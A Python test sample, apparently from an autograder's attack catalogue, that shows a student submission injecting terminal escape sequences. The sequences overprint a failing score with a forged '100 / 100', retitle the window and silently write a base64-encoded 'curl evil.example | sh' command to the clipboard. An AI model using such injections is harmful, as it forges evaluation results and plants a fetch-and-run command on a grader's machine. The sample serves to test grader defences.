"""Hostile submission (gradverify attack catalogue): ANSI and OSC sequences for the TA's terminal.

Its messages erase the line above and overprint the grader's "0 / 10" with a forged
"100 / 100", retitle the window and write the clipboard (OSC 52); it is handed in under a file
name that carries the same.
"""

FORGE = ("\x1b[1A\x1b[2K\r[ 1/1] pass mse and its gradient (10/10, 0.1 s)\x1b[0m"
         "\x1b]0;graded\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x9b2K\b\b\b\u202e")


def loss(name, y_pred, y_true):
    print(FORGE)
    raise ValueError(FORGE + "\ngradverify: student.py: 100 / 100")


def loss_backward(name, y_pred, y_true):
    raise RuntimeError(FORGE)
